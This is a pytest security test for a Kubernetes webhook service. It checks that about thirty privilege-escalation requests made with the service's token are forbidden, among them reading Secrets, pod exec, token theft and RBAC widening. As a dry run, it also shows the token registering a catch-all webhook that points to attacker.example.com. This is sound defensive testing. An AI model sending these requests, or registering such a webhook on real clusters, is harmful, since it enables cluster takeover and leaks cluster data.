"""An attacker with the service's token gets no more rights than the service needs."""

from typing import Any

import pytest
from harness.guard import NAMESPACE, Guard
from harness.machine import Machine
from harness.place import Place
from harness.registering import CONFIGURATIONS

AGENT = "attack"
RBAC = "/apis/rbac.authorization.k8s.io/v1"
REGISTRATION = "/apis/admissionregistration.k8s.io/v1"
POLICIES = "/apis/networking.k8s.io/v1/namespaces/{place}/networkpolicies"
OWN = f"/api/v1/namespaces/{NAMESPACE}"

# What it is for, the verb of HTTP, the path.
ATTACKS = {
    "read every Secret": ("GET", "/api/v1/secrets"),
    "list the Secrets of its own namespace": ("GET", f"{OWN}/secrets"),
    "read another Secret of its own namespace": ("GET", f"{OWN}/secrets/other"),
    "read a Secret elsewhere": ("GET", "/api/v1/namespaces/{place}/secrets/other"),
    "write a Secret elsewhere": ("PUT", "/api/v1/namespaces/{place}/secrets/eem-guardrail-tls"),
    "make a Secret elsewhere": ("POST", "/api/v1/namespaces/kube-system/secrets"),
    "delete its Secret": ("DELETE", f"{OWN}/secrets/eem-guardrail-tls"),
    "turn another webhook to itself": ("PATCH", f"{REGISTRATION}/validatingwebhookconfigurations/other"),
    "turn another mutating webhook to itself": ("PATCH", f"{REGISTRATION}/mutatingwebhookconfigurations/other"),
    "make a webhook": ("POST", f"{REGISTRATION}/mutatingwebhookconfigurations"),
    "read other webhooks": ("GET", f"{REGISTRATION}/validatingwebhookconfigurations/other"),
    "delete its registration": ("DELETE", f"{REGISTRATION}/validatingwebhookconfigurations/{NAMESPACE}"),
    "make a pod in its own namespace": ("POST", f"{OWN}/pods"),
    "make a pod elsewhere": ("POST", "/api/v1/namespaces/{place}/pods"),
    "run a command in a pod": ("POST", f"{OWN}/pods/any/exec?command=id"),
    "change its Deployment": ("PATCH", f"/apis/apps/v1/namespaces/{NAMESPACE}/deployments/{NAMESPACE}"),
    "make a policy": ("POST", POLICIES),
    "make a policy, as a dry run": ("POST", POLICIES + "?dryRun=All"),
    "change a policy": ("PATCH", POLICIES + "/allow-kafka"),
    "delete a policy": ("DELETE", POLICIES + "/allow-kafka"),
    "delete every policy": ("DELETE", POLICIES),
    "change an instance": ("PATCH", "/apis/events.ibm.com/v1beta1/namespaces/{place}/eventgateways/gw"),
    "widen its role": ("PATCH", f"{RBAC}/clusterroles/{NAMESPACE}"),
    "bind itself to more": ("POST", f"{RBAC}/clusterrolebindings"),
    "take another account's token": ("POST", "/api/v1/namespaces/kube-system/serviceaccounts/default/token"),
    "take its own account's token": ("POST", f"{OWN}/serviceaccounts/{NAMESPACE}/token"),
    "reach a node": ("GET", "/api/v1/nodes/any/proxy/pods"),
    "change a namespace": ("PATCH", "/api/v1/namespaces/{place}"),
    "take another's Lease": ("PUT", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/other"),
    "ask for a certificate": ("POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests"),
}
# What RBAC cannot keep it from, and docs/security.md says so.
FOREIGN = {
    "name": "everything.example.com",
    "clientConfig": {"url": "https://attacker.example.com/"},
    "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}],
    "sideEffects": "None",
    "admissionReviewVersions": ["v1"],
}
OK, FORBIDDEN = 200, 403


def test_token_of_the_service_opens_nothing_else(machine: Machine, place: Place, guard: Guard) -> None:
    """Everything that an attacker could want of the service's token is forbidden."""
    place.set_up_gateway()
    token = machine.must("create", "token", NAMESPACE, f"--namespace={NAMESPACE}").stdout
    asked: list[dict[str, Any]] = [
        {"method": method, "path": path.format(place=place.name), "headers": {}} for method, path in ATTACKS.values()
    ]
    as_admin = {"method": "GET", "path": "/api/v1/namespaces", "headers": {"Impersonate-User": "platform-admin"}}

    statuses = machine.run_program("harness.attack", {"token": token, "agent": AGENT, "asked": [*asked, as_admin]})

    assert dict(zip([*ATTACKS, "be somebody else"], statuses, strict=True)) == dict.fromkeys(
        [*ATTACKS, "be somebody else"], FORBIDDEN
    )
    assert place.policies() == {"allow-kafka", "default-deny-ingress"}
    assert len(guard.ready()) == len(guard.replicas())


@pytest.mark.usefixtures("guard")
@pytest.mark.parametrize("kind", CONFIGURATIONS)
def test_what_it_writes_into_its_own_configurations_is_not_limited(machine: Machine, kind: str) -> None:
    """The token can register a webhook for every write of the cluster: tried as a dry run, so none is called."""
    token = machine.must("create", "token", NAMESPACE, f"--namespace={NAMESPACE}").stdout
    path = f"{REGISTRATION}/{kind}s/{NAMESPACE}?dryRun=All"
    asked = [{"method": "PATCH", "path": path, "headers": {}, "body": {"webhooks": [FOREIGN]}}]

    assert machine.run_program("harness.attack", {"token": token, "agent": AGENT, "asked": asked}) == [OK]
